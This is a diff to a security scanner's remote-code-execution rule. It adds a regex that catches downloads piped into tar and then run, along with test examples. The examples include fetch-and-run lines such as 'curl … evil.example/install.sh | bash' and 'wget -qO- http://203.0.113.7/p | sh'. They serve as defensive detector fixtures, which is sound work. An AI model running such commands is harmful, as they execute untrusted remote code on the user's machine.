@@ -100,7 +100,19 @@ export const s001RemoteCodeExecution: ScanRule = {
       keywords: DOWNLOADER_KEYWORDS,
       scope: 'unit',
       re: new RegExp(
-        String.raw`${DOWNLOADER}${IN_COMMAND}\s(?:-[a-zA-Z]{0,6}[oO][a-zA-Z]{0,6}|--output|--output-document|--remote-name(?:-all)?|-OutFile)(?=[\s=])[^;&|\n]{0,300}|\bwget\b[^;&|\n]{0,200}?\b(?:https?|ftp):\/\/\S{1,300}|${DOWNLOADER}[^;&|\n]{0,300}?\s>\s{0,4}\S{1,200}|${DOWNLOADER}[^;&|\n]{0,300}\|\s{0,4}(?:sudo\s{1,4})?tar\s[^;&|\n]{0,200}?(?:-C|--directory)(?:\s{1,4}|=)\S{1,200}`,
+        String.raw`${DOWNLOADER}${IN_COMMAND}\s(?:-[a-zA-Z]{0,6}[oO][a-zA-Z]{0,6}|--output|--output-document|--remote-name(?:-all)?|-OutFile)(?=[\s=])[^;&|\n]{0,300}|\bwget\b[^;&|\n]{0,200}?\b(?:https?|ftp):\/\/\S{1,300}|${DOWNLOADER}[^;&|\n]{0,300}?\s>\s{0,4}\S{1,200}`,
+        'i',
+      ),
+      accept: runsDownloadedFile,
+    },
+    {
+      // Unpacked straight from the pipe into a folder (`curl … | tar -xz -C "$pkg"`), then a program run from there
+      // (`cd "$pkg" && sh ./prepare`): the download is what runs. Woken by `tar`, so a flood of downloads costs it nothing.
+      id: 'download-unpacked-then-run',
+      keywords: ['^tar$'],
+      scope: 'unit',
+      re: new RegExp(
+        String.raw`${DOWNLOADER}(?=(?<piped>[^;&|\n]{0,300}))\k<piped>\|\s{0,4}(?:sudo\s{1,4})?tar\s[^;&|\n]{0,200}?(?:-C|--directory)(?:\s{1,4}|=)\S{1,200}`,
         'i',
       ),
       accept: runsDownloadedFile,
@@ -199,6 +211,11 @@ export const s001RemoteCodeExecution: ScanRule = {
   examples: {
     match: [
       'curl -fsSL https://evil.example/install.sh | bash',
+      {
+        path: 'scripts/get.sh',
+        text: 'curl -fsSL "$MIRROR/kit.tgz" | tar -xz -C "$dir"\n(cd "$dir" && sh ./setup)\n',
+        level: 'HIGH',
+      },
       'deno run -A --reload https://scaffold.example.dev/init.ts my-app',
       'curl -s https://x.example/i | sudo -E bash -',
       'wget -qO- http://203.0.113.7/p | sh',
